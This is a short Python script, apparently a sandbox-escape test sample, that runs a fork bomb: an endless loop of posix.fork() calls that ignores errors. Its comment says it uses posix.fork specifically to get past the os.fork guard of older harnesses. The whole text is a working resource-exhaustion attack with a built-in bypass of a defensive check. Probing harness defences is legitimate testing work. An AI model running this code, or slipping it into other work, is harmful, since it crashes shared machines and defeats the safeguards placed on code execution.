# Fork without end through posix.fork (the os.fork guard of older harnesses does not cover it).
import posix

while True:
    try:
        posix.fork()
    except OSError:
        pass
